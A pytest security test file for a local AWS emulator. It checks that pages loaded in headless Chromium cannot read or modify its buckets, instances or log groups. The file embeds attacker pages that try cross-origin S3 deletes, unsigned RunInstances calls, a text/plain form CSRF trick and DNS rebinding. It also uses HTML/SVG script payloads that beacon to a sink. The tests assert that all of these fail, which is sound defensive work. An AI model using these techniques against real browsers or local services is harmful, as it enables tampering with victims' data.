"""A web page in Chromium reads nothing from local_aws and changes nothing, whatever it tries."""

from __future__ import annotations

import base64
import http.client
import json
import queue
import shutil
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.local_aws.cloud import Cloud, unique

pytestmark = pytest.mark.slow

REBOUND = "rebound.example"
"""A name that Chromium resolves to 127.0.0.1: what a page of this name asks has its own origin."""
SECONDS = 90

PAGE = """<!doctype html><title>page</title><script>
const victim = VICTIM, bucket = BUCKET, group = GROUP, script = SCRIPT;
const scope = service => ({Authorization: 'AWS4-HMAC-SHA256 Credential=any/20260101/us-east-1/' + service +
  '/aws4_request, SignedHeaders=host, Signature=0'});
const form = fields => new URLSearchParams(fields).toString();
const launch = form({Action: 'RunInstances', Version: '2016-11-15', ImageId: 'ami-12345678', MinCount: 1, MaxCount: 1,
  InstanceType: 't3.micro', UserData: script});
const remove = '<Delete><Object><Key>precious</Key></Object></Delete>';
const urlencoded = {'Content-Type': 'application/x-www-form-urlencoded'};
const json = {'Content-Type': 'application/x-amz-json-1.1'};
const attempts = {
  'read health': ['/_local_aws/health', {}],
  'read an object': [`/${bucket}/precious`, {}],
  'list buckets': ['/', {}],
  'delete objects': [`/${bucket}?delete`, {method: 'POST', body: remove}],
  'delete objects, no cors': [`/${bucket}?delete`, {method: 'POST', mode: 'no-cors', body: remove}],
  'post a form': [`/${bucket}`, {method: 'POST', mode: 'no-cors', body: (() => { const data = new FormData();
    data.append('key', 'planted'); data.append('file', new Blob(['x'])); return data })()}],
  'run an instance, no cors': ['/', {method: 'POST', mode: 'no-cors', headers: urlencoded, body: launch}],
  'run an instance, signed': ['/', {method: 'POST', headers: {...urlencoded, ...scope('ec2')}, body: launch}],
  'run an instance by address, no cors': ['/?' + launch, {method: 'POST', mode: 'no-cors'}],
  'create a log group': ['/', {method: 'POST', headers: {...json, ...scope('logs'),
    'X-Amz-Target': 'Logs_20140328.CreateLogGroup'}, body: JSON.stringify({logGroupName: group})}],
  'put an object': [`/${bucket}/planted`, {method: 'PUT', body: 'x'}],
  'delete an object': [`/${bucket}/precious`, {method: 'DELETE'}],
  'interrupt a job, no cors': ['/_local_aws/interrupt/none', {method: 'POST', mode: 'no-cors'}],
};
const shown = source => new Promise(done => { const image = new Image();
  image.onload = () => done('200 shown'); image.onerror = () => done('no picture'); image.src = source; });
const embedded = source => new Promise(done => { const tag = document.createElement('script');
  tag.onload = () => done('200 ran'); tag.onerror = () => done('no script'); tag.src = source;
  document.head.append(tag); });
const submitted = () => new Promise(done => { const frame = document.createElement('iframe'); frame.name = 'hidden';
  document.body.append(frame); const own = document.createElement('form'); own.method = 'post'; own.target = 'hidden';
  own.enctype = 'text/plain'; own.action = `${victim}/${bucket}?delete`;
  const field = document.createElement('input'); field.name = remove.replace('</Delete>', '<!--');
  field.value = '--></Delete>'; own.append(field); document.body.append(own);
  frame.onload = () => done('sent'); own.submit(); });
window.onload = async () => {
  const said = {};
  for (const [name, [path, options]] of Object.entries(attempts)) {
    try {
      const answer = await fetch(victim + path, options);
      said[name] = `${answer.status} ${answer.type} ${(await answer.text()).slice(0, 200)}`;
    } catch (error) { said[name] = String(error); }
  }
  said['picture'] = await shown(`${victim}/${bucket}/photo.png`);
  said['script'] = await embedded(`${victim}/${bucket}/script.js`);
  said['form'] = await submitted();
  await fetch('/said', {method: 'POST', body: JSON.stringify(said)});
};
</script>"""


@contextmanager
def attacker(page: str, rebound_to: str = "") -> Iterator[tuple[str, queue.Queue[dict[str, str]]]]:
    """A web server of a page; yields its address and what the page reports.

    With `rebound_to` (`127.0.0.1:4566`) it answers the first request only and hands on all later ones: what a
    browser gets once the name of the page leads to that address, under the same port and so the same origin.
    """
    reports: queue.Queue[dict[str, str]] = queue.Queue()
    served = threading.Event()

    class Handler(BaseHTTPRequestHandler):
        def answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            if self.path == "/said":
                reports.put(json.loads(body))
                self.reply(204, b"", {})
            elif rebound_to and served.is_set():
                self.hand_on(body)
            else:
                served.set()
                self.reply(200, page.encode(), {"Content-Type": "text/html"})

        def hand_on(self, body: bytes) -> None:
            connection = http.client.HTTPConnection(rebound_to, timeout=30)
            connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
            for name, value in self.headers.items():
                connection.putheader(name, value)
            connection.endheaders(body)
            answer = connection.getresponse()
            headers = {
                k: v for k, v in answer.getheaders() if k.lower() not in ("connection", "transfer-encoding")
            }
            self.reply(answer.status, answer.read(), headers)
            connection.close()

        def reply(self, status: int, body: bytes, headers: dict[str, str]) -> None:
            self.send_response(status)
            for name, value in (headers | {"Content-Length": str(len(body))}).items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            pass

    for method in ("GET", "POST", "PUT", "DELETE", "OPTIONS"):
        setattr(Handler, f"do_{method}", Handler.answer)
    place = ("127.0.0.2", int(rebound_to.rpartition(":")[2])) if rebound_to else ("127.0.0.1", 0)
    server = ThreadingHTTPServer(place, Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"{place[0]}:{server.server_port}", reports
    server.shutdown()
    thread.join()
    server.server_close()


@contextmanager
def chromium(folder: Path, *arguments: str) -> Iterator[None]:
    """Debian's chromium with a page open."""
    program = shutil.which("chromium")
    if program is None:
        pytest.skip("needs chromium: apt-get install chromium")
    options = (
        "--headless=new",
        "--no-sandbox",
        "--disable-gpu",
        f"--user-data-dir={folder}",
        "--no-first-run",
    )
    running = subprocess.Popen(
        [program, *options, *arguments], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL
    )
    try:
        yield
    finally:
        running.terminate()
        running.wait(30)


@pytest.fixture
def precious(cloud: Cloud, bucket: str) -> str:
    """A bucket with an object that must stay, a picture and a script."""
    picture = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
    cloud.s3.put_object(Bucket=bucket, Key="precious", Body=b"kept")
    cloud.s3.put_object(Bucket=bucket, Key="photo.png", Body=picture, ContentType="image/gif")
    cloud.s3.put_object(Bucket=bucket, Key="script.js", Body=b"1", ContentType="text/javascript")
    return bucket


def run(folder: Path, cloud: Cloud, bucket: str, page_host: str, rebound: bool = False) -> dict[str, str]:
    """Open the page under a host name; returns what it could do, after checking that nothing changed."""
    group = unique("planted")
    launched = len(cloud.client("ec2").describe_instances()["Reservations"])
    keys = [item["Key"] for item in cloud.s3.list_objects_v2(Bucket=bucket)["Contents"]]
    victim = urlsplit(cloud.url).netloc
    names = {
        "VICTIM": "" if rebound else cloud.url,
        "BUCKET": bucket,
        "GROUP": group,
        "SCRIPT": base64.b64encode(b"#!/bin/sh").decode(),
    }
    page = PAGE
    for name, value in names.items():
        page = page.replace(f" {name}", f" {json.dumps(value)}", 1)
    with attacker(page, victim if rebound else "") as (place, reports):
        host, port = place.split(":")
        address = f"http://{page_host}:{port}/"
        with chromium(folder, f"--host-resolver-rules=MAP {REBOUND} {host}, MAP 127.0.0.3 {host}", address):
            said = reports.get(timeout=SECONDS)
    assert cloud.s3.get_object(Bucket=bucket, Key="precious")["Body"].read() == b"kept"
    assert [item["Key"] for item in cloud.s3.list_objects_v2(Bucket=bucket)["Contents"]] == keys
    assert len(cloud.client("ec2").describe_instances()["Reservations"]) == launched
    assert not cloud.client("logs").describe_log_groups(logGroupNamePrefix=group)["logGroups"]
    return said


@pytest.mark.parametrize("page_host", ["127.0.0.1", "localhost", "127.0.0.3", REBOUND])
def test_a_page_on_another_port_or_name_reads_and_changes_nothing(
    cloud: Cloud, precious: str, tmp_path: Path, page_host: str
) -> None:
    said = run(tmp_path, cloud, precious, page_host)
    assert len(said) == 16
    assert [name for name, answer in said.items() if answer.startswith("2")] == []
    assert not any("kept" in answer or "isolation" in answer for answer in said.values()), said


def test_a_name_that_is_rebound_to_loopback_reads_and_changes_nothing(
    cloud: Cloud, precious: str, tmp_path: Path
) -> None:
    """The page's origin is that of local_aws: the browser lets it read every answer, so each must be a refusal."""
    said = run(tmp_path, cloud, precious, REBOUND, rebound=True)
    assert len(said) == 16
    refusals = [answer for name, answer in said.items() if name not in ("picture", "script", "form")]
    assert all(answer.startswith("403") or "opaque" in answer for answer in refusals), said
    assert sum("is not an address of local_aws" in answer for answer in refusals) >= 7, said
    assert not any(answer.startswith("2") for answer in said.values()), said


HOSTILE = """<!doctype html><title>report</title><body>as written<script>
document.title = 'ran'; fetch('SINK', {method: 'POST', mode: 'no-cors', body: '{"ran": "yes"}'})</script>"""
DRAWN = """<svg xmlns="http://www.w3.org/2000/svg"><script>
fetch('SINK', {method: 'POST', mode: 'no-cors', body: '{"ran": "yes"}'})</script></svg>"""


@pytest.mark.parametrize("kind", ["text/html", "image/svg+xml", "text/plain"])
def test_what_a_job_wrote_runs_nothing(cloud: Cloud, tmp_path: Path, kind: str) -> None:
    """A presigned address typed into the browser: the page is shown in a sandbox, and its type is not guessed."""
    bucket = cloud.bucket()
    with attacker("") as (place, reports):
        text = (DRAWN if kind == "image/svg+xml" else HOSTILE).replace("SINK", f"http://{place}/said")
        cloud.s3.put_object(Bucket=bucket, Key="report", Body=text.encode(), ContentType=kind)
        url = cloud.s3.generate_presigned_url("get_object", {"Bucket": bucket, "Key": "report"})
        shown = dumped(tmp_path, url)
        assert "<title>report</title>" in shown or kind != "text/html"
        assert ("<pre" in shown) is (kind == "text/plain")
        assert reports.empty()
    headers = cloud.s3.get_object(Bucket=bucket, Key="report")["ResponseMetadata"]["HTTPHeaders"]
    assert headers["content-security-policy"] == "sandbox"
    assert headers["x-content-type-options"] == "nosniff"


def dumped(folder: Path, url: str) -> str:
    """The document that chromium has made of a page once its scripts could have run."""
    program = shutil.which("chromium")
    if program is None:
        pytest.skip("needs chromium: apt-get install chromium")
    options = (
        "--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder}", "--virtual-time-budget=5000",
        "--dump-dom",
    )  # fmt: skip
    return subprocess.run(
        [program, *options, url], capture_output=True, text=True, timeout=SECONDS, check=True
    ).stdout
